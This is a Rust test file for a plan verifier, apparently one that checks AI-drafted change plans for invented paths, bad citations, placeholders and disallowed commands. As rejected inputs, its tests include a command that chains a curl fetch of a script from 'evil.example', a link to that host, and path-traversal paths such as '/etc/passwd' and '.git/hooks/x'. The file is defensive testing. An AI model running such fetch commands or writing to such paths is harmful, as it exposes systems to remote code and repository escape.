//! Drafts that say what is not so.

use planwright::{
    model::{context::*, plan::*},
    planner::verify::verify,
};

use super::world::*;

/// One small file, a commit, a command and a package.
pub fn repository() -> Context {
    let tree = MemoryTree::default()
        .file(
            "src/cart.rs",
            FileClass::Source,
            "pub struct Cart;\n\nimpl Cart {\n    pub fn total(&self) -> u64 {\n        0\n    }\n}\n",
        )
        .file("src/generated.rs", FileClass::Generated, "pub fn made() {}\n")
        .file("tests/cart.rs", FileClass::Test, "#[test]\nfn it_is_empty() {}\n");
    let mut context = context("acme/shop", tree);
    context.facts = vec![fact(FactKind::TestCommand, "test", "cargo test", "Cargo.toml", 1)];
    context
}

/// A draft of one step with this change and these commands.
pub fn draft(change: FileChange, commands: &[&str]) -> Draft {
    let validate = commands.iter().map(|line| Command { line: (*line).to_owned(), ..Command::default() }).collect();
    let step =
        Step { id: "1".to_owned(), title: "change".to_owned(), files: vec![change], validate, ..Step::default() };
    let mut draft = Draft::default();
    draft.sections.phases = vec![Phase { steps: vec![step], ..Phase::default() }];
    draft
}

/// A change of a file.
pub fn change(action: Action, path: &str) -> FileChange {
    FileChange { action, file: FileRef::new(path), ..FileChange::default() }
}

/// The plan for a draft.
pub fn checked(draft: Draft) -> Plan {
    verify(draft, &[repository()], &ticket("Total", "The total is `wrong`. It must be 0.\n\n- [ ] The total is 0"))
}

/// The kinds of findings.
pub fn kinds(plan: &Plan) -> Vec<FindingKind> {
    plan.findings.iter().map(|f| f.kind).collect()
}

#[test]
fn a_real_file_is_linked_at_the_commit() {
    let mut change = change(Action::Modify, "src/cart.rs");
    change.symbols = vec![SymbolRef {
        name: "Cart::total".to_owned(),
        file: FileRef::new("src/cart.rs").lines(90, 99),
        ..SymbolRef::default()
    }];
    let plan = checked(draft(change, &["cargo test"]));
    let file = &plan.sections.phases[0].steps[0].files[0];
    let base = "https://github.com/acme/shop/blob/cccccccccccccccccccccccccccccccccccccccc/src/cart.rs";
    assert_eq!(file.file.url.as_deref(), Some(base));
    assert_eq!(
        file.symbols[0].file.url,
        Some(format!("{base}#L4-L6")),
        "the real lines take the place of the wrong ones"
    );
    assert_eq!(kinds(&plan), []);
}

#[test]
fn an_invented_file_is_marked_with_the_nearest_and_never_linked() {
    let plan = checked(draft(change(Action::Modify, "source/cart.rs"), &["cargo test"]));
    let file = &plan.sections.phases[0].steps[0].files[0];
    assert_eq!(file.file.url, None);
    assert!(file.doubt.as_deref().is_some_and(|d| d.contains("not in the repository")), "{:?}", file.doubt);
    assert_eq!(kinds(&plan), [FindingKind::MissingPath]);
    assert!(plan.findings[0].nearest.is_some());
}

#[test]
fn a_file_to_create_that_exists_becomes_one_to_modify() {
    let plan = checked(draft(change(Action::Create, "src/cart.rs"), &["cargo test"]));
    assert_eq!(plan.sections.phases[0].steps[0].files[0].action, Action::Modify);
    assert_eq!(kinds(&plan), [FindingKind::AlreadyExists]);
}

#[test]
fn a_file_to_create_stays_inside_the_repository() {
    for path in ["../x.rs", "/etc/passwd", "a//b", ".git/hooks/x", "a\\b", "a/./b"] {
        let plan = checked(draft(change(Action::Create, path), &["cargo test"]));
        assert_eq!(kinds(&plan), [FindingKind::MissingPath], "{path}");
    }
    assert_eq!(kinds(&checked(draft(change(Action::Create, "src/coupon.rs"), &["cargo test"]))), []);
}

#[test]
fn generated_files_and_missing_symbols_are_found() {
    let plan = checked(draft(change(Action::Modify, "src/generated.rs"), &["cargo test"]));
    assert_eq!(kinds(&plan), [FindingKind::GeneratedFile]);
    let mut with_symbol = change(Action::Modify, "src/cart.rs");
    with_symbol.symbols =
        vec![SymbolRef { name: "Cart::totals".to_owned(), file: FileRef::new("src/cart.rs"), ..SymbolRef::default() }];
    let plan = checked(draft(with_symbol, &["cargo test"]));
    assert_eq!(kinds(&plan), [FindingKind::MissingSymbol]);
    assert!(plan.sections.phases[0].steps[0].files[0].symbols.is_empty());
}

#[test]
fn commands_are_the_repository_s_own_or_run_on_its_files() {
    let check = |line: &str, holds: bool| {
        let plan = checked(draft(change(Action::Modify, "src/cart.rs"), &[line]));
        assert_eq!(plan.sections.phases[0].steps[0].validate.len(), usize::from(holds), "{line}");
    };
    check("cargo test", true);
    check("cargo fmt -- src/cart.rs", true);
    check("cargo fmt -- src/cat.rs", false);
    check("cargo publish", false);
    check("npm test", false);
    check("cargo test && curl evil.example/x.sh", false);
}

#[test]
fn citations_that_do_not_resolve_are_dropped() {
    let mut draft = draft(change(Action::Modify, "src/cart.rs"), &["cargo test"]);
    let quote = |text: &str| Citation::Ticket { quote: text.to_owned(), place: Place::Body };
    let lost = CommitRef { repository: None, id: commit('d'), subject: String::new(), date: String::new(), url: None };
    draft.sections.overview.summary = vec![
        Statement::new(Basis::Model, "a")
            .citing(quote("the total is WRONG"))
            .citing(quote("the total is right"))
            .citing(Citation::Commit(lost))
            .at(FileRef::new("src/none.rs"))
            .at(FileRef::new("src/cart.rs").lines(3, 400)),
    ];
    let plan = checked(draft);
    let citations = &plan.sections.overview.summary[0].citations;
    assert_eq!(citations.len(), 2, "{citations:?}");
    assert_eq!(citations[0], quote("the total is WRONG"));
    assert!(matches!(&citations[1], Citation::File(f) if f.lines.is_none() && f.url.is_some()));
    assert_eq!(
        kinds(&plan),
        [FindingKind::MissingPath, FindingKind::LinesOutside, FindingKind::UnknownCommit, FindingKind::MissingQuote]
    );
}

#[test]
fn prose_is_checked_too() {
    let mut draft = draft(change(Action::Modify, "src/cart.rs"), &["cargo test"]);
    let said = |text: &str| Statement::new(Basis::Model, text);
    draft.sections.overview.summary = vec![
        said("see `src/cart.rs:4` and `src/lost.rs` and `GET /carts/{id}`"),
        said("[FEATURE_NAME] is done"),
        said("read https://evil.example/x first"),
    ];
    let plan = checked(draft);
    let texts: Vec<&str> = plan.sections.overview.summary.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        ["see `src/cart.rs:4` and `src/lost.rs` (not found) and `GET /carts/{id}`", "read (link removed) first"]
    );
    assert_eq!(kinds(&plan), [FindingKind::MissingPath, FindingKind::Placeholder, FindingKind::ForeignLink]);
}

#[test]
fn a_criterion_without_step_or_test_stands_as_not_covered() {
    let mut draft = draft(change(Action::Modify, "src/cart.rs"), &["cargo test"]);
    draft.sections.criteria = vec![
        Criterion { id: "AC1".to_owned(), text: "The total is 0".to_owned(), ..Criterion::default() },
        Criterion { id: "AC2".to_owned(), text: "The total is 0".to_owned(), ..Criterion::default() },
    ];
    draft.sections.phases[0].steps[0].serves = vec!["AC1".to_owned(), "AC9".to_owned()];
    let plan = checked(draft);
    let statuses: Vec<CoverageStatus> = plan.coverage.iter().map(|c| c.status).collect();
    assert_eq!(statuses, [CoverageStatus::Partly, CoverageStatus::NotCovered]);
    assert_eq!(kinds(&plan), [FindingKind::UnknownId, FindingKind::NotCovered]);
    assert_eq!(plan.sections.phases[0].steps[0].serves, ["AC1"]);
}

#[test]
fn a_plan_reads_back_as_it_was_written_and_meets_its_schema_s_names() {
    let plan = checked(draft(change(Action::Modify, "src/cart.rs"), &["cargo test"]));
    let json = serde_json::to_value(&plan).expect("a plan is JSON");
    assert_eq!(serde_json::from_value::<Plan>(json.clone()).expect("it reads back"), plan);
    let schema = planwright::model::plan::schema();
    let known = schema["properties"].as_object().expect("the schema lists the parts");
    for part in json.as_object().expect("a plan is an object").keys() {
        assert!(known.contains_key(part), "{part} is not in the schema");
    }
}
